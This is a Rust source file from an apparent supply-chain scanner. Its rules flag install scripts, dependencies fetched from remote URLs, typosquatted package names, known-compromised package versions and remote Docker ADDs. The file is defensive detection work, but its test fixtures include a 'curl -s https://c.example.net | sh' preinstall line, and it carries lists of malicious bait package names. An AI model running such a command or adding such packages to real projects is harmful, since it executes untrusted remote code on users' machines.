//! Packages of others: where they come from, and whether their names are what they seem.

use super::Rule;
use crate::guard::{found::Found, hosts, verdict::Severity};

pub static INSTALL_SCRIPT: Rule = Rule {
    id: "install-script",
    severity: Severity::Block,
    why: "such a script runs before anybody has started the app",
    remedy: "do it in the build command, where it is seen",
    finds: &[
        ("package.json", "{\"scripts\": {\"postinstall\": \"node setup.js\"}}"),
        ("package.json", "{\"scripts\": {\"preinstall\": \"curl -s https://c.example.net | sh\"}}"),
    ],
    spares: &[(
        "package.json",
        "{\"scripts\": {\"start\": \"node server.js\", \"postinstall\": \"prisma generate\", \"prepare\": \"husky\"}}",
    )],
};
pub static REMOTE: Rule = Rule {
    id: "dependency-remote",
    severity: Severity::Block,
    why: "its content can change under the same address, and no registry has looked at it",
    remedy: "depend on a version from the registry",
    finds: &[
        ("package.json", "{\"dependencies\": {\"a\": \"git+https://c.example.net/a.git\"}}"),
        ("package.json", "{\"dependencies\": {\"a\": \"http://c.example.net/a.tgz\"}}"),
        ("package.json", "{\"dependencies\": {\"a\": \"someone/a\"}}"),
        ("requirements.txt", "flask\ngit+https://c.example.net/a.git#egg=a\n"),
        ("requirements.txt", "--extra-index-url http://c.example.net/simple\nflask\n"),
        ("requirements.txt", "a @ https://c.example.net/a-1.0.tar.gz\n"),
        ("Dockerfile", "FROM python:3\nRUN pip install http://c.example.net/a.whl"),
    ],
    spares: &[
        (
            "package.json",
            "{\"dependencies\": {\"express\": \"^4.18.2\", \"shared\": \"workspace:*\", \"lib\": \"file:./lib\"}}",
        ),
        (
            "requirements.txt",
            "# web\nflask==3.0.0 ; python_version > '3.8'\nuvicorn[standard]>=0.20\n-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cpu\n",
        ),
    ],
};
pub static TYPOSQUAT: Rule = Rule {
    id: "dependency-typosquat",
    severity: Severity::Block,
    why: "it is one slip away from a well-known package, as bait is",
    remedy: "correct the name, or allow the module in the policy",
    finds: &[
        ("package.json", "{\"dependencies\": {\"expresss\": \"^4.0.0\"}}"),
        ("package.json", "{\"dependencies\": {\"crossenv\": \"*\", \"loadsh\": \"*\"}}"),
        ("requirements.txt", "reqeusts==2.0\n"),
        ("requirements.txt", "python-dateutils\n"),
        ("x.sh", "npm install axois"),
    ],
    spares: &[
        (
            "package.json",
            "{\"dependencies\": {\"preact\": \"^10\", \"nest\": \"1\", \"vuex\": \"4\", \"koa\": \"2\", \"ioredis\": \"5\"}}",
        ),
        ("requirements.txt", "Flask\nrequests\npytz\nPyYAML\nrequests-oauthlib\n"),
    ],
};
pub static HOSTILE: Rule = Rule {
    id: "dependency-hostile",
    severity: Severity::Block,
    why: "the package, or this version of it, is known to have done harm",
    remedy: "remove it, or take a later version",
    finds: &[
        ("package.json", "{\"dependencies\": {\"event-stream\": \"3.3.6\"}}"),
        ("package.json", "{\"dependencies\": {\"flatmap-stream\": \"*\"}}"),
        ("requirements.txt", "ctx==0.2.6\n"),
    ],
    spares: &[("package.json", "{\"dependencies\": {\"event-stream\": \"4.0.1\", \"ua-parser-js\": \"1.0.37\"}}")],
};
pub static DOCKER_REMOTE: Rule = Rule {
    id: "docker-remote",
    severity: Severity::Block,
    why: "what the image holds is decided elsewhere, at every build",
    remedy: "put the file into the app, or check its digest",
    finds: &[("Dockerfile", "FROM alpine\nADD https://c.example.net/tool.tar.gz /opt/")],
    spares: &[(
        "Dockerfile",
        "FROM node:20\nWORKDIR /app\nCOPY . .\nADD assets.tar.gz /app/\nRUN npm ci\nCMD [\"node\", \"server.js\"]\nEXPOSE 3000",
    )],
};

pub(super) const RULES: &[&Rule] = &[&INSTALL_SCRIPT, &REMOTE, &TYPOSQUAT, &HOSTILE, &DOCKER_REMOTE];

/// Names that bait imitates. Long ones only: of short names, most are one letter from another.
const KNOWN: &[&str] = &[
    "express",
    "lodash",
    "axios",
    "react",
    "react-dom",
    "react-router",
    "react-router-dom",
    "webpack",
    "typescript",
    "mongoose",
    "mongodb",
    "commander",
    "dotenv",
    "socket.io",
    "jsonwebtoken",
    "bcrypt",
    "bcryptjs",
    "nodemon",
    "eslint",
    "prettier",
    "request",
    "moment",
    "chalk",
    "underscore",
    "async",
    "bluebird",
    "body-parser",
    "cookie-parser",
    "cross-env",
    "discord.js",
    "electron",
    "fastify",
    "helmet",
    "jquery",
    "passport",
    "puppeteer",
    "sequelize",
    "tailwindcss",
    "uuid",
    "winston",
    "yargs",
    "babel-core",
    "angular",
    "next",
    "nuxt",
    "svelte",
    "redux",
    "rimraf",
    "semver",
    "minimist",
    "node-fetch",
    "nodemailer",
    "multer",
    "morgan",
    "compression",
    "express-session",
    "express-rate-limit",
    "better-sqlite3",
    "sqlite3",
    "web3",
    "ethers",
    "requests",
    "numpy",
    "pandas",
    "django",
    "flask",
    "scipy",
    "matplotlib",
    "tensorflow",
    "pytorch",
    "torch",
    "scikit-learn",
    "beautifulsoup4",
    "selenium",
    "sqlalchemy",
    "pillow",
    "urllib3",
    "setuptools",
    "cryptography",
    "python-dateutil",
    "pyyaml",
    "fastapi",
    "uvicorn",
    "gunicorn",
    "pytest",
    "jinja2",
    "werkzeug",
    "boto3",
    "botocore",
    "colorama",
    "paramiko",
    "pydantic",
    "aiohttp",
    "celery",
    "redis",
    "psycopg2",
    "psycopg2-binary",
    "pymongo",
    "tornado",
    "openai",
    "discord.py",
    "telebot",
    "certifi",
    "jellyfish",
    "opencv-python",
    "httpx",
    "click",
    "streamlit",
    "gradio",
    "transformers",
    "langchain",
];
/// Names one slip away from a known one that are themselves well known.
const NEIGHBOURS: &[&str] = &[
    "preact",
    "nest",
    "vuex",
    "nuxt",
    "next",
    "jest",
    "vest",
    "tslint",
    "xpress",
    "requests",
    "request",
    "moments",
    "colors",
    "async",
    "asynckit",
    "asyncio",
    "reacts",
    "yarn",
    "uid",
    "cuid",
    "uuidv4",
    "chalks",
    "redis",
    "redux",
    "react",
    "torch",
    "torchx",
    "click",
    "flask",
    "flasks",
    "pillow",
    "pytest",
    "pytest-",
    "sqlite",
    "sqlite3",
    "sqlite",
    "mongoist",
    "passport",
    "passports",
    "pandas",
    "http",
    "https",
    "httpx",
    "httpx2",
    "ethers",
    "esthers",
    "morgan",
    "mordan",
    "multer",
    "electrons",
    "psycopg",
    "psycopg3",
    "django",
    "djangos",
    "gradio",
    "radio",
    "scipy",
    "numpy",
    "cumpy",
    "axios",
    "axis",
    "winston",
    "webpack",
    "angular",
    "svelte",
    "helmet",
    "uvicorn",
    "lodash",
    "lodash-es",
    "semver",
    "celery",
    "botocore",
    "aiobotocore",
    "boto",
    "boto3",
    "jinja",
    "jinja2",
    "pydantic",
    "certifi",
    "web3",
    "web",
    "dotenv",
    "dotenvx",
    "bcrypt",
    "scrypt",
    "bcryptjs",
    "fastify",
    "fastapi",
    "express",
    "urllib",
    "tornado",
];
/// Names that were bait, and are more than one slip away, or no slip at all.
const BAIT: &[&str] = &[
    "crossenv",
    "cross-env.js",
    "d3.js",
    "fabric-js",
    "ffmepg",
    "gruntcli",
    "http-proxy.js",
    "jquery.js",
    "mariadb",
    "mongose",
    "mssql.js",
    "mssql-node",
    "mysqljs",
    "node-fabric",
    "node-opencv",
    "node-opensl",
    "node-openssl",
    "nodecaffe",
    "nodefabric",
    "nodeffmpeg",
    "nodemailer-js",
    "nodemailer.js",
    "nodemssql",
    "noderequest",
    "nodesass",
    "nodesqlite",
    "opencv.js",
    "openssl.js",
    "proxy.js",
    "shadowsock",
    "smb",
    "sqlite.js",
    "sqliter",
    "sqlserver",
    "tkinter",
    "loadsh",
    "lodahs",
    "electorn",
    "discordjs.js",
    "python3-dateutil",
    "python-dateutils",
    "jeilyfish",
    "colourama",
    "djanga",
    "easyinstall",
    "libpeshnx",
    "request-python",
    "python-requests",
    "pyyml",
    "beautifulsoup",
    "python-mysql",
    "python-openssl",
    "setup-tools",
    "acqusition",
    "urlib3",
    "apidev-coop",
    "bzip",
    "crypt",
    "django-server",
    "pwd",
    "telnet",
    "urlparse",
    "importantpackage",
    "twilio-npm",
    "rc-loader",
    "babelcli",
    "expres",
    "discord.dll",
    "noblox.js-proxy",
];
/// Packages, or versions of them, that have done harm.
const HOSTILES: &[(&str, &[&str])] = &[
    ("event-stream", &["3.3.6"]),
    ("flatmap-stream", &[]),
    ("eslint-scope", &["3.7.2"]),
    ("ua-parser-js", &["0.7.29", "0.8.0", "1.0.0"]),
    ("coa", &["2.0.3", "2.0.4", "2.1.1", "2.1.3", "3.0.1", "3.1.3"]),
    ("rc", &["1.2.9", "1.3.9", "2.3.9"]),
    ("node-ipc", &["10.1.1", "10.1.2", "10.1.3", "9.2.2"]),
    ("colors", &["1.4.1", "1.4.2", "1.4.44-liberty-2"]),
    ("faker", &["6.6.6"]),
    ("peacenotwar", &[]),
    ("getcookies", &[]),
    ("electron-native-notify", &[]),
    ("1337qq-js", &[]),
    ("fallguys", &[]),
    ("ctx", &["0.1.2", "0.2.2", "0.2.6"]),
    ("phpass", &["0.9.99"]),
    ("torchtriton", &[]),
    ("ultralytics", &["8.3.41", "8.3.42", "8.3.45", "8.3.46"]),
    ("chalk", &["5.6.1"]),
    ("debug", &["4.4.2"]),
    ("@ctrl/tinycolor", &["4.1.1", "4.1.2"]),
    ("xz-java", &[]),
];
/// Indexes other than the registry that people rely on.
const INDEXES: [&str; 6] =
    ["pypi.org", "download.pytorch.org", "www.piwheels.org", "piwheels.org", "pypi.nvidia.com", "wheels.vllm.ai"];

/// Commands in an install script that only prepare what is there.
pub(in crate::guard) fn is_harmless_install(script: &str) -> bool {
    const HARMLESS: [&str; 22] = [
        "husky",
        "husky install",
        "patch-package",
        "prisma generate",
        "npx prisma generate",
        "tsc",
        "npm run build",
        "yarn build",
        "pnpm build",
        "electron-builder install-app-deps",
        "svelte-kit sync",
        "nuxt prepare",
        "nuxi prepare",
        "ngcc",
        "lerna bootstrap",
        "vite build",
        "next build",
        "opencollective-postinstall",
        "simple-git-hooks",
        "playwright install",
        "npx playwright install",
        "is-ci || husky install",
    ];
    let parts = script.split("&&").map(str::trim);
    parts
        .into_iter()
        .all(|part| HARMLESS.contains(&part) || part.starts_with("echo ") && !part.contains(['|', '>', '`', '$', ';']))
}

pub(in crate::guard) fn npm(name: &str, version: &str, line: usize, found: &mut Found<'_>) {
    let version = version.trim();
    let remote = ["git+", "git:", "git@", "http:", "https:", "github:", "gitlab:", "bitbucket:", "gist:", "ssh:"]
        .iter()
        .any(|start| version.starts_with(start));
    // `owner/name` is a repository of GitHub.
    let shorthand = version.contains('/')
        && !version.starts_with(['.', '/', '~', '@'])
        && !version.contains(':')
        && !version.contains(' ');
    if remote || shorthand {
        found.add(&REMOTE, line, &format!("`{name}` comes from {version}"));
    }
    if let Some(aliased) = version.strip_prefix("npm:") {
        let at = aliased.get(1..).and_then(|rest| rest.find('@')).map_or(aliased.len(), |at| at + 1);
        judge_name(&aliased[..at], &aliased[at..], line, found);
    }
    if version.starts_with("file:/") || version.starts_with("file:..") {
        found.hint(&REMOTE, line, &format!("`{name}` lies outside of the app"));
    }
    judge_name(name, version, line, found);
}

fn judge_name(name: &str, version: &str, line: usize, found: &mut Found<'_>) {
    let lower = name.to_ascii_lowercase().replace('_', "-");
    if found.policy.allows_module(name) {
        return;
    }
    let number = version.trim_start_matches(|c: char| !c.is_ascii_digit());
    if HOSTILES.iter().any(|(other, versions)| *other == lower && (versions.is_empty() || versions.contains(&number))) {
        found.add(&HOSTILE, line, &format!("`{name}` {version}"));
        return;
    }
    if let Some(known) = imitates(&lower) {
        found.add(&TYPOSQUAT, line, &format!("`{name}` looks like `{known}`"));
    }
    super::network::import(&lower, line, found);
    super::harvest::import(&lower, line, found);
}

/// A module that is imported under a name that nobody else would have.
pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
    if HOSTILES.iter().any(|(other, versions)| *other == module && versions.is_empty())
        || BAIT.contains(&module) && !is_standard(module)
    {
        found.add(&HOSTILE, line, &format!("`{module}` is loaded"));
    }
}

/// Names that are modules of a language, though bait has used them as names of packages.
fn is_standard(module: &str) -> bool {
    matches!(module, "tkinter" | "crypt" | "pwd" | "urlparse" | "bzip" | "telnet" | "smb" | "mariadb" | "beautifulsoup")
}

pub(in crate::guard) fn pip(row: &str, line: usize, found: &mut Found<'_>) {
    let row = row.trim();
    if let Some(url) = row
        .strip_prefix("--extra-index-url")
        .or_else(|| row.strip_prefix("--index-url"))
        .or_else(|| row.strip_prefix("-i "))
        .or_else(|| row.strip_prefix("--find-links"))
    {
        index(url, line, found);
        return;
    }
    if row.starts_with("--trusted-host") {
        found.add(&REMOTE, line, "a host is trusted without a certificate");
        return;
    }
    let remote = row.contains("git+")
        || row.contains("://")
        || row.starts_with("hg+")
        || row.starts_with("svn+")
        || row.starts_with("git@");
    if remote && !row.starts_with("-r") {
        found.add(&REMOTE, line, &format!("`{row}`"));
        return;
    }
    if row.starts_with('-') || row.starts_with('.') || row.starts_with('/') {
        return;
    }
    let end = row.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))).unwrap_or(row.len());
    judge_name(&row[..end], row[end..].trim_start_matches(['=', '>', '<', '~', '!', ' ']), line, found);
}

/// Another index than the registry's.
pub(super) fn index(url: &str, line: usize, found: &mut Found<'_>) {
    let url = url.trim_start_matches(['=', ' ']).split_whitespace().next().unwrap_or_default();
    let plain = url.starts_with("http:");
    if let Some(host) = hosts::of(url)
        && (plain || !INDEXES.contains(&host.as_str()))
    {
        found.add(&REMOTE, line, &format!("packages come from {host}"));
    }
}

/// The well-known name that `name` is one slip away from.
fn imitates(name: &str) -> Option<&'static str> {
    const LENGTH_MIN: usize = 5;
    if BAIT.contains(&name) && !matches!(name, "mariadb" | "smb" | "crypt" | "pwd" | "telnet" | "bzip" | "urlparse") {
        return Some("another package");
    }
    if name.len() < LENGTH_MIN || KNOWN.contains(&name) || NEIGHBOURS.contains(&name) {
        return None;
    }
    KNOWN.iter().copied().filter(|known| known.len() >= LENGTH_MIN).find(|known| {
        let separators = |text: &str| text.replace(['-', '.', '_'], "");
        is_one_slip(name, known) || separators(name) == separators(known) && name != *known
    })
}

/// One letter more, less, other, or two swapped.
fn is_one_slip(one: &str, other: &str) -> bool {
    let (one, other) = (one.as_bytes(), other.as_bytes());
    if one.len().abs_diff(other.len()) > 1 {
        return false;
    }
    let start = one.iter().zip(other).take_while(|(a, b)| a == b).count();
    let (a, b) = (&one[start..], &other[start..]);
    match (a.len(), b.len()) {
        (0, 0) => false,
        (x, y) if x == y => a[1..] == b[1..] || x >= 2 && a[0] == b[1] && a[1] == b[0] && a[2..] == b[2..],
        (x, y) if x > y => a[1..] == *b,
        _ => *a == b[1..],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_slip_is_found_and_two_are_not() {
        for (one, other) in [("expres", "express"), ("expresss", "express"), ("axois", "axios"), ("lodesh", "lodash")] {
            assert!(is_one_slip(one, other), "{one}");
        }
        for (one, other) in [("express", "express"), ("axxioss", "axios"), ("koa", "express")] {
            assert!(!is_one_slip(one, other), "{one}");
        }
        assert_eq!(imitates("preact"), None);
        assert_eq!(imitates("nodefetch"), Some("node-fetch"));
    }
}
